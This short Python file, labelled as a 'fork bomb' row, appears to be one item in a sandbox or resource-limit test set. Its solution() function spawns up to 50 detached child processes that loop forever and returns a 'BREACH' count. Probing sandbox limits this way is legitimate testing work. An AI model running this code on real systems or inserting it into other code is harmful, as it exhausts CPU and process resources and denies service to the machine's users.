# row: fork bomb
import os


def solution(context):
    made = 0
    for _ in range(50):
        try:
            if os.fork() == 0:
                os.setsid() if hasattr(os, "setsid") else None
                while True:
                    pass
            made += 1
        except (OSError, AttributeError):
            pass
    return "BREACH: %d processes" % made if made else "none"
